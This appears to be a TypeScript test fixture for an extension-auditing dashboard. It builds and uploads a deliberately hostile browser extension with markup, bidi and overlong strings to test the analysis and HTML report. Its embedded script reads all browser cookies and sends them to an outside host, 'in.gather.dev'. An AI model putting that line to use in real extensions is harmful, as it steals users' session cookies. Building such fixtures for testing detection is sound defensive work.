import assert from 'node:assert/strict';
import { makeTestExtension } from '../../server/src/testing/test-extension.ts';
import { demoPages, type DemoPage } from './demo-pages.ts';
import { attack, bidi, insertHostileThings, long } from './hostile-things.ts';
import { startTestDashboard, type TestDashboard } from './test-dashboard.ts';

/** The dashboard of a service whose texts from outside are markup, script, bidi and long. */
export interface HostileDashboard extends TestDashboard {
  readonly pages: readonly DemoPage[];
  /** The report as HTML. */
  readonly report: string;
}

/** Signed in as an owner, who sees every page. */
export async function startHostileDashboard(): Promise<HostileDashboard> {
  const dashboard = await startTestDashboard({ work: true, expectedStatuses: [404] });
  try {
    return await fill(dashboard);
  } catch (error) {
    // Else the service that it leaves would keep the process from ending.
    await dashboard.close();
    throw error;
  }
}

async function fill(dashboard: TestDashboard): Promise<HostileDashboard> {
  const { app } = dashboard;
  const cookie = await app.signIn();
  const send = async (method: string, path: string, json?: unknown) => {
    const given = json instanceof FormData ? { body: json } : json !== undefined && { json };
    return (await app.send(method, path, { cookie, ...given })).body;
  };
  const extensionId = await uploadHostile(dashboard, cookie);
  const version = `/api/v1/extensions/${extensionId}/versions`;
  for (const name of ['1.0', '2.0']) {
    const body = { extensionId, version: name };
    await send('POST', `${version}/${name}/analysis`, body);
    await until(async () => (await send('GET', `${version}/${name}/analysis`)).data['status']);
  }
  await insertHostileThings(app, cookie, extensionId);
  const html = await fetch(`${app.url}${version}/2.0/analysis?format=html`, {
    headers: { cookie },
  });
  const [name = '', value = ''] = cookie.split('=');
  await dashboard.page.context().addCookies([{ name, value, url: app.url }]);
  return { ...dashboard, pages: await demoPages(send), report: await html.text() };
}

async function uploadHostile({ app }: TestDashboard, cookie: string): Promise<string> {
  const extension = makeTestExtension(`${attack}${bidi}`);
  const manifest = {
    description: attack + long,
    author: attack,
    permissions: ['cookies', 'tabs', attack],
    host_permissions: ['<all_urls>', `https://${long}.example/*`],
    background: { service_worker: `${attack}.js` },
    content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
  };
  const code = `/* ${attack} ${bidi} */ chrome.cookies.getAll({}, (c) => fetch('https://in.gather.dev/?' + JSON.stringify(c))); const s = ${JSON.stringify(attack + long)};`;
  const files = {
    'content.js': 'document.title;',
    [`${attack}.js`]: code,
    [`${bidi}${'n'.repeat(900)}.js`]: code,
  };
  for (const version of ['1.0', '2.0']) {
    const body = new FormData();
    body.set('file', new File([extension.pack(version, manifest, files) as BlobPart], 'a.crx'));
    await app.send('POST', '/api/v1/extensions', { cookie, body });
  }
  return extension.id;
}

/** Waits for the end of what is told by polling. */
async function until(state: () => Promise<unknown>): Promise<void> {
  const deadline = Date.now() + 60_000;
  while ((await state()) !== 'completed') {
    assert.ok(Date.now() < deadline, 'the audit did not end');
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
